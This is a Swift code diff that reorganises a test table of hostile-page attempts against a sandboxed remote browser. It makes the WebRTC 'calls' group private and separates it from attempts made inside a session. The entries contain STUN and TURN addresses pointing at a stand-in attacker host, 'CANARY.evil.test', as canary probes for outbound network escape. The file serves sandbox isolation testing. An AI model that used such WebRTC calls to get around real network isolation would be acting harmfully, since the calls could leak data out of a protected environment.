@@ -1,7 +1,10 @@
 /// What a hostile page, or a person with it, tries in the remote browser.
 enum BrowserTable {
-  static let all: [BrowserAttempt] =
-    downloads + addresses + clipboard + uploads + calls + outputs + keys + devices
+  static let all: [BrowserAttempt] = inSessions + calls
+
+  /// What a session's browser can begin as well: it has no network card, without which Chromium makes no call.
+  static let inSessions: [BrowserAttempt] =
+    downloads + addresses + clipboard + uploads + outputs + keys + devices
 
   private typealias Row = BrowserAttempt
 
@@ -136,7 +139,7 @@ enum BrowserTable {
 
   // MARK: Calls between browsers
 
-  static let calls: [BrowserAttempt] = [
+  private static let calls: [BrowserAttempt] = [
     outside("WebRTC, a STUN server", gathering("stun:CANARY.evil.test:3478"), .network),
     outside("WebRTC, a TURN server by UDP", gathering("turn:CANARY.evil.test:3478?transport=udp"), .network),
     outside("WebRTC, a TURN server by TCP", gathering("turn:CANARY.evil.test:80?transport=tcp"), .network),
